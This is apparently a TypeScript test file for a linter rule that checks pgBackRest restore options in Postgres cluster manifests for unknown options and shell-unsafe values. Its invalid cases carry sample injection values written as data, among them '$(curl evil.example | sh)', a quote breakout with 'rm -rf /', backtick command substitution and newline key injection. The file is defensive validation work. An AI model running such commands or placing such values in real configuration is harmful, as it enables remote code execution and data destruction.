// cpo-restore-options-safe: restore.options are known pgBackRest options with shell-safe values; global values are single-line.
import { ruleTester } from "../../../helpers/rule-tester.ts";
import { rule } from "../../../../src/operators/cpo/rules/restore-options-safe.ts";
import { backup, cluster, good, pvcRepo } from "./fixtures.ts";
import { KEYCLOAK, SHOP, edit } from "./manifests.ts";

const RESTORE = "spec.backup.pgbackrest.restore";
const OPTS = `${RESTORE}.options`;

function withRestore(restore: unknown, global?: unknown) {
  return cluster(backup([pvcRepo(1)], global, { restore }));
}

ruleTester(rule, {
  valid: [
    { resource: good() },
    { name: "PITR", resource: withRestore({ id: "2", repo: "repo1", options: { type: "time", target: "2024-05-16 07:46:05.506817+00", set: "20240515-164100F" } }) },
    { name: "lsn", resource: withRestore({ id: "2", repo: "repo1", options: { type: "lsn", target: "0/3000060", "target-exclusive": "y" } }) },
    { name: "extra allowed option", resource: withRestore({ id: "2", repo: "repo1", options: { "repo1-path": "/x/repo1/" } }), params: { extraAllowedOptions: ["repo1-path"] } },
    { name: "global single-line", resource: withRestore(undefined, { "repo1-retention-full": "7", "repo1-s3-uri-style": "path" }) },
    { name: "realistic: global with cipher and uri style", resource: SHOP },
    { name: "realistic: archive-async", resource: KEYCLOAK },
    {
      name: "realistic: PITR whose target and set come from Flux placeholders", notChecked: true,
      resource: edit(SHOP, ({ p }) => {
        p.restore = { id: "${RESTORE_ID}", repo: "repo1", options: { type: "time", target: "${RESTORE_TARGET}", set: "${RESTORE_SET:=20261115-023000F}" } };
      }),
    },
    {
      name: "realistic: the restore type from a Flux placeholder is not checked",
      notChecked: true,
      resource: edit(SHOP, ({ p }) => {
        p.restore = { id: "2", repo: "repo1", options: { type: "${RESTORE_TYPE:=immediate}" } };
      }),
    },
  ],
  invalid: [
    {
      name: "realistic: a restore type that stays wrong whatever is substituted (${T}-time)",
      resource: edit(SHOP, ({ p }) => {
        p.restore = { id: "2", repo: "repo1", options: { type: "${T}-time" } };
      }),
      problems: [
        { path: `${OPTS}.type`, notChecked: true },
        { path: `${OPTS}.type`, message: "is not one of default" },
      ],
    },
    {
      name: "chart example target-time",
      resource: withRestore({ id: "2", repo: "repo1", options: { "target-time": "2024-05-16 07:46:05+00" } }),
      problems: [{ path: `${OPTS}.target-time`, message: "type: time" }],
    },
    { name: "operator-added delta", resource: withRestore({ id: "2", repo: "repo1", options: { delta: "y" } }), problems: [{ path: `${OPTS}.delta`, message: "set by the operator" }] },
    { name: "repo in options", resource: withRestore({ id: "2", repo: "repo1", options: { repo: "2" } }), problems: [{ message: "restore.repo instead" }] },
    {
      name: "command substitution",
      resource: withRestore({ id: "2", repo: "repo1", options: { set: "$(curl evil.example | sh)" } }),
      problems: [{ path: `${OPTS}.set`, message: "'$'" }],
    },
    { name: "quote breakout", resource: withRestore({ id: "2", repo: "repo1", options: { target: 'x" ; rm -rf / ; "', type: "name" } }), problems: [{ message: `'"'` }] },
    { name: "backtick", resource: withRestore({ id: "2", repo: "repo1", options: { set: "`id`" } }), problems: [{ message: "'`'" }] },
    { name: "newline", resource: withRestore({ id: "2", repo: "repo1", options: { set: "a\nb" } }), problems: [{ message: "a newline" }] },
    { name: "key injection", resource: withRestore({ id: "2", repo: "repo1", options: { "type=x;id;": "y" } }), problems: [{ message: "unquoted" }] },
    { name: "time without target", resource: withRestore({ id: "2", repo: "repo1", options: { type: "time" } }), problems: [{ path: OPTS, message: "needs a target" }] },
    { name: "unknown type", resource: withRestore({ id: "2", repo: "repo1", options: { type: "pitr" } }), problems: [{ path: `${OPTS}.type` }] },
    { name: "number value", resource: withRestore({ id: "2", repo: "repo1", options: { "process-max": 4 } }), problems: [{ message: "Quote it" }] },
    { name: "options a list", resource: withRestore({ id: "2", repo: "repo1", options: ["type=time"] }), problems: [{ path: OPTS }] },
    {
      name: "global value with newline",
      resource: withRestore(undefined, { "repo1-retention-full": "7\nrepo1-path=/elsewhere" }),
      problems: [{ path: "spec.backup.pgbackrest.global.repo1-retention-full", message: "line break" }],
    },
    { name: "global key with =", resource: withRestore(undefined, { "repo1-path = /x\n[db]": "y" }), problems: [{ message: "not a pgBackRest option name" }] },
    {
      name: "realistic: a placeholder does not hide the quote next to it",
      resource: edit(SHOP, ({ p }) => {
        p.restore = { id: "3", repo: "repo1", options: { type: "name", target: '${RESTORE_POINT}"; touch /tmp/x; "' } };
      }),
      problems: [{ path: `${OPTS}.target`, message: `contains '"'` }],
    },
    {
      name: "realistic: an escaped $${VAR} is a literal $ after substitution",
      resource: edit(SHOP, ({ p }) => {
        p.restore = { id: "3", repo: "repo1", options: { type: "name", target: "$${HOME}" } };
      }),
      problems: [{ path: `${OPTS}.target`, message: "contains '$'" }],
    },
    {
      name: "realistic: target-time from the chart example",
      resource: edit(KEYCLOAK, ({ p }) => {
        p.restore = { id: "1", repo: "repo2", options: { "target-time": "2026-11-20 08:00:00+00" } };
      }),
      problems: [{ path: `${OPTS}.target-time`, message: "write `type: time` and `target: '<timestamp>'`" }],
    },
  ],
});
